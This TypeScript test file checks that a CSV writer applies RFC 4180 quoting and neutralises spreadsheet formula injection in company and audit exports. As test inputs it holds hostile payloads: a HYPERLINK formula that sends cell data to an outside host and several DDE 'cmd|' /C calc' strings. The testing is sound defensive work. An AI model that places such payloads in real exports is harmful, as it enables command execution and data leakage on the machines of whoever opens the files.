/**
 * Every CSV FIRMA writes goes through src/shared/csv.ts: RFC 4180 quoting, and no text field that a
 * spreadsheet would read as a formula (OWASP's CSV injection). Each trigger, numbers that start with a
 * sign, text that merely contains one, quotes, separators and line breaks, empty fields, a BOM.
 */
import { csvDocument, csvField, csvRecord } from "../../src/shared/csv";
import { parseCsv } from "../support/csv";
import { changesCsv } from "../../src/cli/refresh";
import { auditCsv } from "../../src/server/firm/audit-command";

describe("a text that a spreadsheet would read as a formula", () => {
  test.each([
    ["=", '=HYPERLINK("http://x.example/?"&A1;"Detalii")', `"'=HYPERLINK(""http://x.example/?""&A1;""Detalii"")"`],
    ["+", "+40 21 123 45 67", `"'+40 21 123 45 67"`],
    ["-", "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ["@", "@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ["tab", "\t=1+1", `"'\t=1+1"`],
    ["carriage return", "\r=1+1", `"'\r=1+1"`],
    ["NUL", "\0=1+1", `"'\0=1+1"`],
  ])("begins with %s: a single quote first, inside quotes", (_name, text, field) => {
    expect(csvField(text)).toBe(field);
    expect(parseCsv(field + "\r\n")).toEqual([["'" + text]]);
  });

  test("a byte-order mark in front of the trigger does not hide it (a reader drops the mark)", () => {
    expect(csvField("\ufeff=1+1")).toBe(`"'\ufeff=1+1"`);
    expect(csvField("\ufeff\ufeff-1")).toBe(`"'\ufeff\ufeff-1"`);
  });

  test("a text that merely contains a trigger, or begins with a space or a quote, is written as it is", () => {
    for (const text of ["SC A=B SRL", "ION-POPESCU SRL", "a@b.ro", "1+1", " =1+1", "'=1+1", "Str. Lungă nr. 5 - bl. A"]) {
      expect(csvField(text)).toBe(text);
    }
  });
});

describe("numbers, booleans and nothing", () => {
  test("a number that starts with - or + stays a plain number", () => {
    expect(csvField(-1200)).toBe("-1200");
    expect(csvField(-0.5)).toBe("-0.5");
    expect(csvField(1e21)).toBe("1e+21");
    expect(csvField(14399840)).toBe("14399840");
    expect(csvRecord([14399840, -1200, 350.25])).toBe("14399840,-1200,350.25");
  });

  test("a number written as text is text: its sign is neutralized", () => {
    expect(csvField("-1200")).toBe(`"'-1200"`);
    expect(csvField("+40")).toBe(`"'+40"`);
  });

  test("NaN and infinities are empty; booleans are TRUE and FALSE; null and undefined are empty", () => {
    expect(csvRecord([NaN, Infinity, -Infinity, true, false, null, undefined, ""])).toBe(",,,TRUE,FALSE,,,");
  });
});

describe("RFC 4180 quoting", () => {
  test("quotes, commas and line breaks inside a field are quoted, quotes doubled", () => {
    const values = ['SC "ALFA" SRL', "Str. X, nr. 1", "rând 1\nrând 2", "rând 1\r\nrând 2", "fără nimic"];
    const line = csvRecord(values);
    expect(line).toBe(`"SC ""ALFA"" SRL","Str. X, nr. 1","rând 1\nrând 2","rând 1\r\nrând 2",fără nimic`);
    expect(parseCsv(line + "\r\n")).toEqual([values]);
  });

  test("a trigger together with quotes, separators and line breaks: one field, neutralized, read back whole", () => {
    const hostile = '=cmd|"/C calc",A1\r\n=2+2';
    const doc = csvDocument([
      ["CUI", "Denumire"],
      [14399840, hostile],
    ]);
    expect(parseCsv(doc)).toEqual([
      ["CUI", "Denumire"],
      ["14399840", "'" + hostile],
    ]);
  });

  test("an empty field and an empty record", () => {
    expect(csvDocument([["", "a", ""], []])).toBe(",a,\r\n\r\n");
  });
});

describe("a whole file", () => {
  test("every line ends in CRLF; with bom the file starts with the mark, and its first field is still made safe", () => {
    const doc = csvDocument(
      [
        ["=1+1", "x"],
        ["-", 2],
      ],
      { bom: true },
    );
    expect(doc).toBe(`\ufeff"'=1+1",x\r\n"'-",2\r\n`);
    expect(parseCsv(doc.slice(1))).toEqual([
      ["'=1+1", "x"],
      ["'-", "2"],
    ]);
  });

  test("without bom nothing comes first", () => {
    expect(csvDocument([["a"]])).toBe("a\r\n");
    expect(csvDocument([])).toBe("");
  });
});

describe("every CSV writer goes through it", () => {
  test("firma refresh --changes: before and after that begin with a trigger are neutralized; the CUI and the BOM stay", () => {
    const csv = changesCsv([
      {
        cui: 14399840,
        field: "denumire",
        before: '=HYPERLINK("https://x.invalid") SRL',
        after: "ALFA SRL",
        beforeFetchedAt: 0,
        afterFetchedAt: 0,
        name: null,
      },
      { cui: 14399840, field: "platitor_tva", before: true, after: false, beforeFetchedAt: 0, afterFetchedAt: 0, name: null },
      { cui: 14399840, field: "adresa", before: "Str. X", after: "-2+3 bl. A", beforeFetchedAt: 0, afterFetchedAt: 0, name: null },
    ]);
    expect(csv.startsWith("\ufeffCUI,")).toBe(true);
    expect(
      parseCsv(csv)
        .slice(1)
        .map((r) => r.slice(0, 4)),
    ).toEqual([
      ["14399840", "denumire", '\'=HYPERLINK("https://x.invalid") SRL', "ALFA SRL"],
      ["14399840", "platitor_tva", "TRUE", "FALSE"],
      ["14399840", "adresa", "Str. X", "'-2+3 bl. A"],
    ]);
  });

  test("firma audit --csv: a field that begins with a trigger is neutralized; numbers stay numbers", () => {
    const csv = auditCsv([
      { at: 0, user: "ana", endpoint: "=cmd|' /C calc'!A0", cuis: [14399840, 2], source: "upstream", credits: 1, status: 200 },
    ]);
    expect(parseCsv(csv)).toEqual([
      ["când/when", "cine/who", "endpoint", "CUI", "sursa/source", "credite/credits", "status"],
      ["1970-01-01T00:00:00.000Z", "ana", "'=cmd|' /C calc'!A0", "14399840 2", "upstream", "1", "200"],
    ]);
  });
});
